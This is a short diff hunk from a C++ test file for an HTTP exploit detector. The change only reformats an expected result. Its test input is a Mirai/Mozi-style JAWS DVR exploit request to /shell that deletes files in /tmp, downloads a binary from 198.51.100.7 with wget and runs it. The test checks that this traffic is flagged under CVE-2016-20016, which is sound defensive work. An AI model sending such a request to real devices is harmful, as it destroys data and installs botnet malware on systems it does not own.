@@ -62,8 +62,8 @@ TEST_CASE("HTTP: an attack is told of with its place alone, without what it carr
     dialogue.client(get("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws"));
     dialogue.server("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
     CHECK(observed(http_content, dialogue) ==
-          std::vector<Seen>{{ObservationKind::exploit, 50,
-                             "MVPower and other JAWS recorders, Mirai, Mozi, CVE-2016-20016: /shell"}});
+          std::vector<Seen>{
+              {ObservationKind::exploit, 50, "MVPower and other JAWS recorders, Mirai, Mozi, CVE-2016-20016: /shell"}});
 }
 
 TEST_CASE("HTTP: percent-encoding hides nothing, and the port does not matter") {
